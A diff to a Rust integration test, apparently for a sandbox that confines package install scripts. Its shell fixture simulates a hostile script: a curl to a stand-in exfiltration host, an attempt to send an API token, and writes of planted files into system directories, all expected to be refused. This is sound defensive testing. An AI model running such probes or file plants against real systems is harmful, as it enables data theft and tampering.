@@ -34,7 +34,7 @@ say() { echo "$1: $2" >> found.txt; }
 status() { curl -sS -m 20 -o /dev/null -w '%{http_code}' "$@" 2>/dev/null || true; }
 say granted "$(status https://api.torno.test/public/x)"
 say elsewhere "$(status https://evil.torno.test/steal)"
-say unlisted-path "$(status https://api.torno.test/v1/me)"
+say unlisted-path "$(status https://api.torno.test/nowhere)"
 say later-phase "$(status https://other.torno.test/v1/me)"
 say with-placeholder "$(status -H "authorization: Bearer ${API_TOKEN:-none}" https://api.torno.test/v1/me)"
 say token "${API_TOKEN:-unset}"
@@ -101,7 +101,12 @@ fn a_hostile_install_script_gets_nothing_and_leaves_nothing() {
             .stderr(Stdio::piped())
             .spawn()
             .unwrap();
-        wait_for_lock(stage);
+        let most = wait_for_lock(stage);
+        // A host sees a container's processes, and no user-space kernel's.
+        assert!(
+            most > 0 || level != "container",
+            "nothing was left behind to kill"
+        );
         // The gate's streams and the phase's processes are gone: nothing more reaches the far end.
         let journal = &stage.world.api.journal;
         let seen = || -> (usize, u64) {
@@ -109,6 +114,8 @@ fn a_hostile_install_script_gets_nothing_and_leaves_nothing() {
             let bytes = connections.iter().map(|c| c.received_bytes).sum();
             (connections.len(), bytes)
         };
+        // What had left before the lock may still be read by the far end.
+        std::thread::sleep(Duration::from_millis(500));
         let at_lock = seen();
         assert!(
             at_lock.1 > 1_000_000,
@@ -125,7 +132,7 @@ fn a_hostile_install_script_gets_nothing_and_leaves_nothing() {
             "later-phase: 403",
             "with-placeholder: 403",
             "token: unset",
-            "raw-address: 400",
+            "raw-address: 403",
             "write /usr/bin/planted: failed",
             "write /etc/planted: failed",
             "write /opt/planted: failed",
@@ -150,8 +157,9 @@ fn a_hostile_install_script_gets_nothing_and_leaves_nothing() {
     });
 }
 
-/// Waits until the record has the lock.
-fn wait_for_lock(stage: &Stage) {
+/// Waits until the record has the lock; the most processes that were seen left behind before.
+fn wait_for_lock(stage: &Stage) -> usize {
+    let mut most = 0;
     let end = Instant::now() + Duration::from_secs(120);
     let locked = |record: &serde_json::Value| record["event"]["kind"] == "session_locked";
     while !stage.daemon.records().unwrap().iter().any(locked) {
@@ -160,8 +168,10 @@ fn wait_for_lock(stage: &Stage) {
             "never locked: {}",
             stage.daemon.log_text()
         );
-        std::thread::sleep(Duration::from_millis(50));
+        most = most.max(left_behind());
+        std::thread::sleep(Duration::from_millis(100));
     }
+    most
 }
 
 /// Each refusal stands in the record, before the lock; after it nothing was even asked.
